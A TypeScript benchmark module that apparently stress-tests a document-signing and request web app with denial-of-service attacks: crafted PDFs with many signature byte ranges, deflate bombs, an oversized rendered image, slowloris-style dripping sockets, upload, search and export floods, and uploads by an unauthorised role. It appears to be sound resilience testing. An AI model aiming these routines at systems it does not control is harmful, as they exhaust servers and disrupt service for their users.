import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { dropping } from './dropping-form.ts';

/*
 * The attacks of bench/attacks.ts, made in a process of their own: their work would delay the calls that are measured beside them.
 */

/** Whom and what an attack uses. */
export type Target = {
  address: string;
  /** A code under which anybody may have a file checked. */
  code: string;
  tokens: { admin: string; staff: string; student: string; faculty: string; executive: string };
  /** A request of the student's, which the others cannot add files to. */
  requestId: number;
  documentId: number;
  signees: { accountId: number }[];
};
type Attack = (target: Target) => Promise<string>;

const MEGABYTE = 2 ** 20;

export const ATTACKS = {
  'nobody attacks': async () => {
    await pause(15_000);
    return '';
  },
  'crafted files of 25 MB to be checked, without a sign-in': async (target) => {
    const file = craftedPdf(25 * MEGABYTE);
    return inParallel(40, 10, () => upload(target, `/verify/${target.code}`, file));
  },
  'crafted files of 10 MB to be checked, as large as they may be': async (target) => {
    const file = craftedPdf(10 * MEGABYTE - 1);
    return inParallel(60, 10, () => upload(target, `/verify/${target.code}`, file));
  },
  'files that unpack to 1 GB or to 10 million letters, to be recognised without a code': async (target) => {
    const files = [
      packedPdf(Buffer.alloc(1024 * MEGABYTE, ' ')),
      packedPdf(Buffer.alloc(40 * MEGABYTE, '(abcd) Tj\n')),
    ];
    let index = 0;
    return inParallel(200, 10, () => {
      index += 1;
      return upload(target, '/verify', files[index % files.length] ?? Buffer.alloc(0));
    });
  },
  '20 signatures of 4000 × 4000': async (target) => {
    const image = await largePicture();
    return inParallel(20, 20, () => upload(target, '/profile/signature', image, target.tokens.student));
  },
  '300 sockets that send a byte every 5 s': async (target) => {
    const sockets = await Promise.all(
      Array.from({ length: 300 }, (_, index) =>
        openDripping(target, index % 2 ? '/auth/login' : `/verify/${target.code}`),
      ),
    );
    for (let second = 0; second < 45; second += 5) {
      for (const socket of sockets) if (socket.writable) socket.write('x');
      await pause(5_000);
    }
    const living = sockets.filter(({ closed }) => !closed).length;
    for (const socket of sockets) socket.destroy();
    return `${living} left after 45 s`;
  },
  '40 uploads of 25 MB, ten at once': async (target) => {
    const file = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(25 * MEGABYTE - 9, 'x')]);
    const path = `/attachments?requestId=${target.requestId}`;
    return inParallel(40, 10, () => upload(target, path, file, target.tokens.student));
  },
  '100 uploads of 25 MB by somebody who may not': async (target) => {
    const file = Buffer.alloc(25 * MEGABYTE, 'x');
    const path = `/attachments?requestId=${target.requestId}`;
    return inParallel(100, 20, () => upload(target, path, file, target.tokens.staff));
  },
  '200 requests as fast as possible': async (target) => {
    const { documentId, signees, tokens } = target;
    let index = 0;
    return inParallel(200, 20, () => {
      index += 1;
      const body = JSON.stringify(dropping(documentId, signees as never, index));
      return call(target, '/requests', { method: 'POST', body, token: tokens.student });
    });
  },
  '4,000 searches, 40 at once': async (target) => {
    const { tokens } = target;
    const words = ['santillan', 'drop', 'cruz', 'leave', 'travel', 'mar', 'ana', 'e'];
    let index = 0;
    return inParallel(4000, 40, () => {
      index += 1;
      const word = `${words[index % words.length]}${index % 7 ? '' : randomBytes(2).toString('hex')}`;
      const path = index % 2 ? `/search?q=${word}aa` : `/requests/search?search=${word}`;
      return call(target, path, { token: tokens.staff });
    });
  },
  '100 exports of everything, ten at once': async (target) =>
    inParallel(100, 10, () => call(target, '/requests/export', { token: target.tokens.admin })),
} satisfies Record<string, Attack>;
export type AttackName = keyof typeof ATTACKS;

/** Answers how often each status was given; 0 stands for a connection that broke. */
async function inParallel(count: number, atOnce: number, work: () => Promise<number>): Promise<string> {
  const statuses = new Map<number, number>();
  let begun = 0;
  const workers = Array.from({ length: atOnce }, async () => {
    while (begun < count) {
      begun += 1;
      const status = await work().catch(() => 0);
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    }
  });
  await Promise.all(workers);
  return [...statuses].map(([status, times]) => `${times} × ${status}`).join(', ');
}

type Options = { method?: string; body?: string; token: string };

async function call(
  { address }: Target,
  path: string,
  { method = 'GET', body, token }: Options,
): Promise<number> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const response = await fetch(`${address}/api/v1${path}`, { method, headers, ...(body && { body }) });
  for await (const _ of response.body ?? []);
  return response.status;
}

async function upload({ address }: Target, path: string, bytes: Buffer, token?: string): Promise<number> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)]), 'file.pdf');
  const headers = token ? { authorization: `Bearer ${token}` } : {};
  const response = await fetch(`${address}/api/v1${path}`, { method: 'POST', headers, body: form });
  await response.arrayBuffer();
  return response.status;
}

async function openDripping({ address }: Target, path: string): Promise<Socket> {
  const { hostname, port } = new URL(address);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  socket.resume();
  await once(socket, 'connect');
  const isLogin = path.startsWith('/auth');
  const type = isLogin ? 'application/json' : 'multipart/form-data; boundary=b';
  const head = [
    `POST /api/v1${path} HTTP/1.1`,
    `Host: ${hostname}`,
    `Content-Type: ${type}`,
    'Content-Length: 100000',
  ];
  socket.write(`${head.join('\r\n')}\r\n\r\n`);
  if (!isLogin)
    socket.write('--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF');
  return socket;
}

/** Claims as many signatures as a checker may look at, each as large as one may be and over nearly the whole file. */
function craftedPdf(size: number): Buffer {
  const file = Buffer.alloc(size, '0');
  file.write('%PDF-1.7\n');
  const place = MEGABYTE - 10;
  file.write('<3083080000', 20);
  file.write('>', 20 + place - 1);
  for (let index = 1; index <= 16; index += 1) {
    file.write(`/ByteRange [0 20 ${20 + place} ${size - 20 - place - (index % 2)}]`, size - index * 100);
  }
  return file;
}

/** A file of one page whose contents are packed. */
function packedPdf(contents: Buffer): Buffer {
  const packed = deflateSync(contents);
  const head = [
    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
    '2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n',
    `4 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`,
  ];
  const end = '\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';
  return Buffer.concat([Buffer.from(head.join('')), packed, Buffer.from(end)]);
}

/** Some 70 kB that become 64 MB of pixels. */
function largePicture(): Promise<Buffer> {
  const lines =
    '<path d="M600 2000c400-900 900-900 1100 0s900 900 1700-200" fill="none" stroke="#123" stroke-width="60"/>';
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">${lines}</svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}

if (import.meta.main) {
  const [name = '', target = '{}'] = process.argv.slice(2);
  const attack: Attack = ATTACKS[name as AttackName];
  console.log(await attack(JSON.parse(target)));
}
